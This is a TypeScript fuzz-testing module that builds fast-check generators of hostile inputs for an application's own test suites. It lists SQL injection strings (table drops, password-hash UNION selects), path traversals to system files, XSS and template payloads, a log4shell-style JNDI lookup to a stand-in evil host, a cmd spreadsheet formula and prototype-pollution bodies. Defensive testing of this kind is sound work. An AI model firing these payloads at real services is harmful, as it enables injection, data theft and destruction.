import fc from 'fast-check';

/**
 * Values an attacker or a broken client sends: the classic payloads of SQL injection, path
 * traversal, script injection and template injection, control characters, unicode edge cases and
 * sizes well past every field's limit. Shared by the fuzz suite and the attack-class suite.
 */
export const SQL_INJECTIONS = [
  "' OR '1'='1",
  "' OR 1=1--",
  '" OR ""="',
  "'; DROP TABLE users;--",
  '1; DELETE FROM applicants WHERE 1=1--',
  "') OR ('a'='a",
  "' UNION SELECT id, email, password_hash FROM users--",
  "name' OR 1=1) --",
  '1) OR (1=1',
  "admin'--",
  '%',
  '_',
  '%%',
  '\\',
  "\\'",
  '$1',
  '::text',
  "' || pg_sleep(0.1) || '",
  '(SELECT 1)',
  'name; --',
  'name desc',
  'name,id',
  '-',
  '--name',
  'name NULLS FIRST',
  '1 ORDER BY 1',
] as const;

export const TRAVERSALS = [
  '..',
  '../',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2f..%2f',
  '....//....//',
  '/etc/passwd',
  'C:\\Windows\\System32',
  'file:///etc/passwd',
  '%00',
  'x\u0000.pdf',
  '.',
  '/',
  '//evil.example.com',
] as const;

const SCRIPT_INJECTIONS = [
  '<img src=x onerror="window.__xss=1">',
  '"><script>window.__xss=1</script>',
  '<svg onload=window.__xss=1>',
  'javascript:window.__xss=1',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, sent as text.
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, sent as text.
  '${jndi:ldap://evil.example.com/a}',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '@SUM(1)',
] as const;

export const PROTOTYPE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
] as const;

const CONTROL = [...Array(32).keys(), 0x7f, 0x85, 0x9f].map((c) => String.fromCharCode(c));

const UNICODE_EDGES = [
  '\ud800',
  'a\udfffb',
  '\ufeff',
  '\u202eevil',
  '\u200b\u200c\u200d',
  'e\u0301\u0301\u0301\u0301',
  '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦',
  'Ω≈ç√∫˜µ≤≥÷',
  '\uffff\ufffe',
  'ＡＤＭＩＮ＠ｅｘａｍｐｌｅ．ｃｏｍ',
  'İıſK',
  '\u0000',
  'a\u0000b',
] as const;

const huge = (n: number) => 'A'.repeat(n);

/** Any hostile string: payloads, control characters, unicode, huge. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...SQL_INJECTIONS,
    ...TRAVERSALS,
    ...SCRIPT_INJECTIONS,
    ...PROTOTYPE_KEYS,
    ...UNICODE_EDGES,
  ),
  fc.constantFrom('', ' ', '\t', '\r\n', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309'),
  fc.string({ unit: fc.constantFrom(...CONTROL), minLength: 1, maxLength: 8 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(huge(257), huge(5_000), huge(200_000), `${huge(4_000)}\u0000`),
);

/** Deeply nested arrays or objects (a parser's and a validator's recursion limits). */
const deepJson = (depth: number, kind: 'array' | 'object'): unknown => {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v };
  return v;
};

/** Any hostile JSON value, for replacing a field of an otherwise valid body. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      null,
      true,
      false,
      0,
      -1,
      1.5,
      -0,
      2 ** 31,
      2 ** 53 + 2,
      1e308,
      -1e308,
      [],
      {},
      [null],
      JSON.parse('{"__proto__": {"polluted": true}}'),
      JSON.parse('{"constructor": {"prototype": {"polluted": true}}}'),
    ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(deepJson(64, 'array'), deepJson(64, 'object'), deepJson(3_000, 'array')),
  },
  { weight: 1, arbitrary: fc.array(fc.constantFrom('x', 1, null), { minLength: 200, maxLength: 2_000 }) },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 3 }) },
);

/** A hostile raw query-string fragment: malformed percent escapes, overlong UTF-8, duplicates. */
export const hostileQueryFragment: fc.Arbitrary<string> = fc.constantFrom(
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%AF',
  '%00',
  '%FF%FE',
  '__proto__=1',
  '__proto__[polluted]=1',
  'constructor[prototype][polluted]=1',
  'sort[]=name',
  'limit=1&limit=2',
  'search=a&search=b',
  'archived=1&archived=0',
  '&&&',
  '=',
  `x=${'A'.repeat(9_000)}`,
);
